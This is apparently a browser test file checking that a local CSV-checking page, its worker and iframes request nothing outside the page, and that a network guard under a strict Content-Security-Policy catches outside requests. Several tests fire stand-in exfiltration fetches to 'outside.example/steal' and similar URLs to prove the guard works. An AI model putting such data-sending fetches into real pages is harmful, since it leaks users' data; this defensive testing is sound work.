// The network guard: the page, its worker and the wasm request nothing but
// the page's own files, and the guard does catch an outside request when
// one is made on purpose (so that a silent guard cannot pass for a clean page).

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  checkerFiles, fillSampleSettings, guardNetwork, launchChromium, openChecker, sampleBytes, startServer, summaryTotals,
} from './harness.mjs';

let server;
before(async () => { server = await startServer(); });
after(async () => { await server?.close(); });

async function withPage(options, body) {
  const browser = await launchChromium(options);
  try {
    const page = await browser.context.newPage();
    const guard = await guardNetwork(browser.context, page, checkerFiles(server.origin));
    await openChecker(page, server.url);
    await body(page, guard);
  } finally {
    await browser.close();
  }
}

async function runSample(page) {
  await fillSampleSettings(page);
  await page.locator('input[type=file]').setInputFiles({
    name: 'es003_importer_standard.csv', mimeType: 'text/csv', buffer: sampleBytes('es003_importer_standard.csv'),
  });
  await summaryTotals(page);
}

describe('with the page\'s Content-Security-Policy', () => {
  test('a whole run requests nothing outside the page', async () => {
    await withPage({}, async (page, guard) => {
      await runSample(page);
      assert.deepEqual(await guard.all(), []);
    });
  });

  test('the guard catches a deliberate fetch from the page (refused by the CSP)', async () => {
    await withPage({}, async (page, guard) => {
      await page.evaluate(() => fetch('https://outside.example/steal?x=1').catch(() => null));
      await page.waitForTimeout(200);
      const caught = await guard.all();
      assert.ok(caught.some((line) => line.includes('https://outside.example/steal')), caught.join('\n'));
    });
  });

  test('the guard catches a deliberate fetch from a worker (refused by the CSP)', async () => {
    await withPage({}, async (page, guard) => {
      await page.evaluate(() => {
        // At once: the guard must not depend on attaching to the worker before its first line.
        const source = "fetch('https://outside.example/from-worker').catch(() => null);";
        new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      });
      await page.waitForTimeout(1000);
      const caught = await guard.all();
      assert.ok(caught.some((line) => line.includes('https://outside.example/from-worker')), caught.join('\n'));
    });
  });

  test('the guard catches a deliberate fetch from an iframe (refused by the CSP it inherits)', async () => {
    await withPage({}, async (page, guard) => {
      await page.evaluate(() => new Promise((done) => {
        const frame = document.createElement('iframe');
        frame.addEventListener('load', done);
        document.body.append(frame);
      }));
      const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
      await frame.evaluate(() => fetch('https://outside.example/from-frame').catch(() => null));
      await page.waitForTimeout(200);
      const caught = await guard.all();
      assert.ok(caught.some((line) => line.includes('https://outside.example/from-frame')), caught.join('\n'));
    });
  });

  test('the CSP forbids connections and pins the inline script', async () => {
    await withPage({}, async (page) => {
      const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      assert.match(csp, /default-src 'none'/);
      assert.match(csp, /connect-src 'none'/);
      assert.match(csp, /script-src 'sha256-[^']+' 'wasm-unsafe-eval'/);
      assert.match(csp, /worker-src blob:/);
      assert.doesNotMatch(csp, /'unsafe-inline'|'unsafe-eval'|https?:|\*/);
    });
  });
});

describe('without the CSP (bypassed), so that every attempt reaches the network layer', () => {
  test('a whole run still requests nothing outside the page', async () => {
    await withPage({ bypassCSP: true }, async (page, guard) => {
      await runSample(page);
      assert.deepEqual(await guard.all(), []);
    });
  });

  test('the guard catches a deliberate fetch from the page and from a worker', async () => {
    await withPage({ bypassCSP: true }, async (page, guard) => {
      await page.evaluate(() => fetch('https://outside.example/page').catch(() => null));
      await page.evaluate(() => {
        const source = "fetch('https://outside.example/worker').catch(() => null);";
        new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      });
      await page.waitForTimeout(1000);
      const caught = await guard.all();
      assert.ok(caught.some((line) => line.includes('https://outside.example/page')), caught.join('\n'));
      assert.ok(caught.some((line) => line.includes('https://outside.example/worker')), caught.join('\n'));
    });
  });

  test("the guard catches a request to the page's own origin that carries data (a query string)", async () => {
    await withPage({ bypassCSP: true }, async (page, guard) => {
      const url = new URL('/?entry=XQ710042173', server.origin).href;
      await page.evaluate((target) => fetch(target).catch(() => null), url);
      await page.evaluate((origin) => {
        const source = `fetch('${origin}/index.html?entry=XQ710043916').catch(() => null);`;
        new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      }, server.origin);
      await page.waitForTimeout(1000);
      const caught = await guard.all();
      assert.ok(caught.includes(`request: ${url}`), caught.join('\n'));
      assert.ok(caught.includes(`request: ${server.origin}/index.html?entry=XQ710043916`), caught.join('\n'));
    });
  });
});
